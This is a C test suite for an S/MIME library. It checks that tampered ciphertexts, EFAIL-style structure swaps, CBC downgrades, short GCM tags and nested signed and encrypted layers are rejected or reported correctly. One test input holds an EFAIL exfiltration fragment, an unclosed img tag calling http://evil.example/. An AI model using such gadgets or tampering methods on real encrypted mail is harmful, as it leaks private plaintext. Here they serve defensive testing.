/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Encryption that was tampered with, and layers in, beside and around each other. */
#include "forge.h"

#include <stdio.h>
#include <string.h>

static const reading as_bob = { .keys = { "bob-p256", "bob-rsa" } };
static const reading as_alice = { .keys = { "alice-p256", "alice-rsa" } };

static const sending seals[] = {
    { .to = { "bob-p256" }, .cipher = SMIME_CIPHER_AES_128_CBC },
    { .to = { "bob-p256" }, .cipher = SMIME_CIPHER_AES_128_GCM },
    { .to = { "bob-rsa" },
      .cipher = SMIME_CIPHER_AES_128_CBC,
      .transport = SMIME_TRANSPORT_RSA_V15 },
    { .to = { "bob-rsa" },
      .cipher = SMIME_CIPHER_AES_128_GCM,
      .transport = SMIME_TRANSPORT_RSA_V15 },
    { .to = { "bob-rsa" },
      .cipher = SMIME_CIPHER_AES_256_CBC,
      .transport = SMIME_TRANSPORT_RSA_OAEP },
    { .to = { "bob-rsa" },
      .cipher = SMIME_CIPHER_AES_256_GCM,
      .transport = SMIME_TRANSPORT_RSA_OAEP },
};

static int is_gcm(const sending *how)
{
    return how->cipher >= SMIME_CIPHER_AES_128_GCM;
}

/* The pieces of EnvelopedData and AuthEnvelopedData without originatorInfo. */
static element *recipients(element *info)
{
    return AT(info, 1, 0, 1);
}

static element *content_info(element *info)
{
    return AT(info, 1, 0, 2);
}

static outcome open_edited(const reading *by, bytes sealed, element *info)
{
    return opened(by, with_cms(sealed, der_write(info)));
}

/* No identifier matches: LOCKED, and the recipients are listed. */
START_TEST(not_for_me)
{
    bytes sealed = protected(&seals[_i], text(plain_mail));
    outcome got = opened(&as_alice, sealed);

    ck_verdict(got, SMIME_SUMMARY_LOCKED, "no-key");
    ck_assert_int_eq(got.status, SMIME_OK);
    ck_assert_ptr_null(got.content.data);
    ck_assert_uint_eq(smime_report_recipient_count(got.report, 0), 1);
    ck_assert_str_eq(smime_report_recipient_kind(got.report, 0, 0),
                     _i < 2 ? "kari" : "ktri");
    ck_assert_int_eq(smime_report_recipient_opened(got.report, 0, 0), 0);
    ck_assert_ptr_nonnull(smime_report_recipient_identifier(got.report, 0, 0));
    ck_assert_int_eq(smime_report_layer_opened(got.report, 0), 0);
    ck_assert_str_eq(smime_report_layer_algorithm(got.report, 0),
                     _i == 4   ? "aes-256-cbc"
                     : _i == 5 ? "aes-256-gcm"
                     : _i & 1  ? "aes-128-gcm"
                               : "aes-128-cbc");
}
END_TEST

/* The element that holds the encrypted key: the last OCTET STRING of the RecipientInfo. */
static element *last_string(element *from)
{
    element *found = from->tag == 0x04 ? from : NULL;

    for (size_t i = from->tag & 0x20 ? from->count : 0; i-- > 0 && !found;)
        found = last_string(from->child[i]);
    return found;
}

/* Once an identifier matches, every failure reads the same: the key wrong, of the wrong length,
 * empty, the padding wrong, the tag wrong. */
START_TEST(one_reason_for_every_failure)
{
    const sending *how = &seals[_i];
    bytes sealed = protected(how, text(plain_mail));
    char text[300] = "";

    for (int change = 0; change < 5; change++) {
        element *info = der_read(cms_of(sealed)), *key = last_string(recipients(info));
        element *data = content_info(info);
        outcome got;

        switch (change) {
        case 0:
            key->content.data[key->content.len / 2] ^= 1;
            break;
        case 1:
            key->content.len = key->content.len - 8;
            break;
        case 2:
            key->content.len = 0;
            break;
        case 3: /* the last block of the content, which CBC's padding stands in */
            data = data->child[2]->tag & 0x20 ? data->child[2]->child[data->child[2]->count - 1]
                                              : data->child[2];
            data->content.len -= is_gcm(how) ? 1 : 16;
            break;
        default: /* the tag, or no whole number of blocks */
            if (is_gcm(how))
                AT(info, 1, 0, 3)->content.data[0] ^= 0x80;
            else
                data->child[2]->content.len -= 1;
        }
        if (change == 4 && !is_gcm(how) && data->child[2]->tag & 0x20)
            continue;
        got = open_edited(&as_bob, sealed, info);
        if (got.summary == SMIME_SUMMARY_CONFIDENTIAL && !is_gcm(how) && change != 4)
            continue; /* one in 256: a random key gives good padding */
        ck_verdict(got, SMIME_SUMMARY_INVALID, "decryption-failed");
        ck_assert_int_eq(got.status, SMIME_OK);
        ck_assert_ptr_null(got.content.data);
        ck_assert_int_eq(smime_report_layer_opened(got.report, 0), 0);
        ck_assert_int_eq(smime_report_layer_authenticated(got.report, 0), is_gcm(how));
        if (*text)
            ck_assert_str_eq(smime_report_reason_text(got.report, 0), text);
        snprintf(text, sizeof text, "%s", smime_report_reason_text(got.report, 0));
    }
}
END_TEST

/* EFAIL: the bytes of one structure under the other's name. */
START_TEST(cipher_in_the_wrong_structure)
{
    static const uint8_t enveloped[] = { 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 3 };
    static const uint8_t auth_enveloped[] = { 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d,
                                              1,    9,    16,   1,    23 };
    bytes sealed = protected(&seals[_i], text(plain_mail));
    element *info = der_read(cms_of(sealed));
    outcome got;

    if (is_gcm(&seals[_i])) {
        AT(info, 0)->content = bytes_of(enveloped, sizeof enveloped);
        der_remove(AT(info, 1, 0), AT(info, 1, 0)->count - 1); /* the tag */
    } else {
        AT(info, 0)->content = bytes_of(auth_enveloped, sizeof auth_enveloped);
        der_insert(AT(info, 1, 0), 3, der_new(0x04, bytes_of("0123456789abcdef", 16)));
    }
    got = open_edited(&as_bob, sealed, info);
    ck_verdict(got, SMIME_SUMMARY_INVALID, "cipher-misplaced");
    ck_assert_ptr_null(got.content.data);
}
END_TEST

/* EFAIL: GCM turned into CBC in an EnvelopedData of its own. */
START_TEST(downgraded_to_cbc)
{
    static const uint8_t enveloped[] = { 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 3 };
    bytes sealed = protected(&seals[1], text(plain_mail));
    element *info = der_read(cms_of(sealed)), *algorithm = AT(content_info(info), 1);
    outcome got;

    AT(info, 0)->content = bytes_of(enveloped, sizeof enveloped);
    der_remove(AT(info, 1, 0), AT(info, 1, 0)->count - 1);
    AT(algorithm, 0)->content.data[AT(algorithm, 0)->content.len - 1] = 2; /* aes128-CBC */
    algorithm->child[1] = der_new(0x04, bytes_of("0123456789abcdef", 16));
    got = open_edited(&as_bob, sealed, info);
    ck_assert(got.summary == SMIME_SUMMARY_INVALID || got.summary == SMIME_SUMMARY_CONFIDENTIAL);
    ck_assert_int_eq(smime_report_layer_authenticated(got.report, 0), 0);
    ck_assert(!got.content.data || !holds(got.content, "Hello Bob"));
}
END_TEST

/* The tag: shorter than it says, or so short that it can be guessed. */
START_TEST(short_tag)
{
    bytes sealed = protected(&seals[1], text(plain_mail));
    static const uint8_t lengths[] = { 0, 1, 4, 8, 11, 12, 15 };

    for (size_t i = 0; i < sizeof lengths; i++)
        for (int says = 0; says < 2; says++) {
            element *info = der_read(cms_of(sealed)), *tag = AT(info, 1, 0, 3);
            element *parameters = AT(content_info(info), 1, 1);
            outcome got;
            tag->content.len = lengths[i];
            if (says) {
                while (parameters->count > 1)
                    der_remove(parameters, 1);
                if (lengths[i] != 12) /* the default */
                    der_insert(parameters, 1, der_new(0x02, bytes_of(&lengths[i], 1)));
            }
            got = open_edited(&as_bob, sealed, info);
            /* RFC 5084 3.2: from 12 on and when it says so, it is a tag */
            if (says && lengths[i] >= 12) {
                ck_assert_int_ne(got.summary, SMIME_SUMMARY_LOCKED);
                continue;
            }
            ck_verdict(got, SMIME_SUMMARY_INVALID, NULL);
            ck_assert_ptr_null(got.content.data);
        }
}
END_TEST

/* A ciphertext cut short under its own tag. */
START_TEST(truncated_ciphertext)
{
    bytes sealed = protected(&seals[1], text(plain_mail));
    element *info = der_read(cms_of(sealed)), *data = AT(content_info(info), 2);
    outcome got;

    if (data->tag & 0x20)
        data = data->child[data->count - 1];
    data->content.len -= 16;
    got = open_edited(&as_bob, sealed, info);
    ck_verdict(got, SMIME_SUMMARY_INVALID, "decryption-failed");
    ck_assert_ptr_null(got.content.data);
}
END_TEST

/* --- layers */

/* Protected parts below other content are listed, not opened, and raise nothing. */
START_TEST(errant_layers)
{
    static const char *const wraps[] = {
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--b\r\n",
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n", /* a single child */
        "Content-Type: message/rfc822\r\n\r\n",
        "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n"
        "Content-Type: text/plain\r\n\r\nx\r\n--b\r\n",
        "Content-Type: multipart/digest; boundary=b\r\n\r\n--b\r\n"
        "Content-Type: message/rfc822\r\n\r\n",
    };
    sending how = { .to = { "bob-p256" } }, sign = { .from = { "alice-p256" }, .opaque = 1 };
    sending clear = { .from = { "alice-p256" } };
    bytes parts[3];

    parts[0] = protected(&how, text(plain_mail));
    parts[1] = protected(&sign, text(plain_mail));
    parts[2] = protected(&clear, text(plain_mail));
    for (size_t i = 0; i < 3; i++) {
        bytes whole = joined(joined(text(ALICE), text(wraps[_i])), parts[i]);
        outcome got = opened(&as_bob, joined(whole, text(strstr(wraps[_i], "=b") ? "\r\n--b--\r\n"
                                                                                  : "")));
        ck_verdict(got, SMIME_SUMMARY_UNPROTECTED, "errant-layer");
        ck_assert_uint_eq(smime_report_layer_count(got.report), 1);
        ck_assert_int_eq(smime_report_layer_errant(got.report, 0), 1);
        ck_assert_int_eq(smime_report_layer_kind(got.report, 0),
                         i ? SMIME_LAYER_SIGNED : SMIME_LAYER_ENVELOPED);
        ck_assert_int_eq(smime_report_layer_opened(got.report, 0), 0);
        ck_assert_ptr_nonnull(got.content.data);
        ck_assert(i == 2 || !holds(got.content, "Hello Bob"));
        ck_assert_int_eq(smime_report_covers_layer(got.report, 0), -1);
    }
}
END_TEST

/* ... and below signed content they do not raise it either. */
START_TEST(errant_below_signed)
{
    sending how = { .to = { "bob-p256" } }, sign = { .from = { "alice-p256" } };
    bytes inner = protected(&how, text(plain_mail)), whole;
    outcome got;

    whole = joined(text(ALICE "Date: Mon, 01 Jun 2026 00:00:00 +0000\r\n"
                              "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"),
                   inner);
    whole = joined(whole, text("\r\n--b--\r\n"));
    got = opened(&as_bob, protected(&sign, whole));
    ck_verdict(got, SMIME_SUMMARY_VERIFIED, "errant-layer");
    ck_assert_uint_eq(smime_report_layer_count(got.report), 2);
    ck_assert_int_eq(smime_report_layer_errant(got.report, 1), 1);
}
END_TEST

/* As an entity to wrap once more: what describes the content, without the rest of the header. */
static bytes entity_of(bytes message)
{
    size_t at = find(message, "Content-Type:", 0);

    return part_of(message, at, message.len);
}

static bytes sealed_again(const sending *how, bytes message)
{
    return protected(how, joined(text(ALICE "Date: Mon, 01 Jun 2026 00:00:00 +0000\r\n"),
                                 entity_of(message)));
}

START_TEST(signature_outside_encryption)
{
    sending seal = { .to = { "bob-p256" } }, sign = { .from = { "alice-p256" }, .opaque = _i };
    bytes whole = sealed_again(&sign, protected(&seal, text(plain_mail)));
    outcome got = opened(&as_bob, whole);

    ck_verdict(got, SMIME_SUMMARY_CONFIDENTIAL, "signature-outside");
    ck_assert_uint_eq(smime_report_layer_count(got.report), 2);
    ck_assert_int_eq(smime_report_layer_kind(got.report, 0), SMIME_LAYER_SIGNED);
    ck_assert_int_eq(smime_report_layer_encrypts(got.report, 1), 1);
    ck_assert(holds(got.content, "Hello Bob"));
    ck_assert_uint_gt(smime_report_covers_length(got.report, 0), 0);
    ck_assert_int_eq(smime_report_covers_layer(got.report, 0), 1);
}
END_TEST

START_TEST(triple_wrap)
{
    sending inner = { .from = { "alice-p256" }, .to = { "bob-p256" } };
    sending outer = { .from = { "alice-rsa" }, .opaque = _i & 1 };
    sending gateway = { .from = { "bob-rsa" } };
    bytes sealed, whole;
    outcome got;

    inner.opaque = _i >> 1;
    sealed = protected(&inner, text(plain_mail));
    got = opened(&as_bob, sealed_again(&outer, sealed));
    ck_verdict(got, SMIME_SUMMARY_CONFIDENTIAL_VERIFIED, NULL);
    ck_assert_uint_eq(smime_report_layer_count(got.report), 3);
    ck_assert(holds(got.content, "Hello Bob"));
    ck_same(got.content, opened(&as_bob, sealed).content);
    ck_assert_uint_eq(smime_report_covers_length(got.report, 2), got.content.len);
    /* the outer signer need not be the sender ... */
    whole = sealed_again(&gateway, sealed);
    ck_verdict(opened(&as_bob, whole), SMIME_SUMMARY_CONFIDENTIAL_VERIFIED, NULL);
    /* ... but must be good */
    gateway.from[0] = "mallory";
    ck_verdict(opened(&as_bob, sealed_again(&gateway, sealed)), SMIME_SUMMARY_INVALID,
               "no-anchor");
    /* and the innermost one decides about the sender */
    inner.from[0] = "carol-p384";
    ck_verdict(opened(&as_bob, sealed_again(&outer, protected(&inner, text(plain_mail)))),
               SMIME_SUMMARY_INVALID, "from-mismatch");
}
END_TEST

/* Encrypted twice, and one of them changed or locked. */
START_TEST(encrypted_twice)
{
    sending first = { .to = { "bob-p256" }, .cipher = SMIME_CIPHER_AES_256_GCM };
    sending second = { .to = { "bob-rsa" }, .cipher = SMIME_CIPHER_AES_256_CBC };
    bytes inner = protected(&first, text(plain_mail));
    reading half = { .keys = { "bob-rsa" } };
    outcome got = opened(&as_bob, sealed_again(&second, inner));

    ck_verdict(got, SMIME_SUMMARY_CONFIDENTIAL, "not-authenticated");
    ck_assert(holds(got.content, "Hello Bob"));
    got = opened(&half, sealed_again(&second, inner));
    ck_verdict(got, SMIME_SUMMARY_LOCKED, "no-key");
    ck_assert_ptr_null(got.content.data);
    half.release = SMIME_RELEASE_UNVERIFIED;
    got = opened(&half, sealed_again(&second, inner));
    ck_assert_ptr_null(got.content.data);
}
END_TEST

START_TEST(too_many_layers)
{
    sending sign = { .from = { "alice-p256" } };
    bytes whole = protected(&sign, text(plain_mail));
    reading by = { .anchor = "root", .policy = policy_with(SMIME_LIMIT_LAYERS, 3) };
    outcome got;

    for (int i = 1; i < 3; i++)
        whole = sealed_again(&sign, whole);
    ck_verdict(opened(&by, whole), SMIME_SUMMARY_VERIFIED, NULL);
    whole = sealed_again(&sign, whole);
    got = opened(&by, whole);
    ck_assert_int_eq(got.status, SMIME_E_LIMIT_LAYERS);
    ck_verdict(got, SMIME_SUMMARY_UNDECIDED, "limit");
    ck_assert_ptr_null(got.content.data);
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("layers");
    TCase *tests = tcase_create("layers");

    tcase_set_timeout(tests, 120);
    tcase_add_checked_fixture(tests, NULL, common_teardown);
    tcase_add_loop_test(tests, not_for_me, 0, 6);
    tcase_add_loop_test(tests, one_reason_for_every_failure, 0, 6);
    tcase_add_loop_test(tests, cipher_in_the_wrong_structure, 0, 6);
    tcase_add_test(tests, downgraded_to_cbc);
    tcase_add_test(tests, short_tag);
    tcase_add_test(tests, truncated_ciphertext);
    tcase_add_loop_test(tests, errant_layers, 0, 5);
    tcase_add_test(tests, errant_below_signed);
    tcase_add_loop_test(tests, signature_outside_encryption, 0, 2);
    tcase_add_loop_test(tests, triple_wrap, 0, 4);
    tcase_add_test(tests, encrypted_twice);
    tcase_add_test(tests, too_many_layers);
    suite_add_tcase(suite, tests);
    return support_main(suite);
}
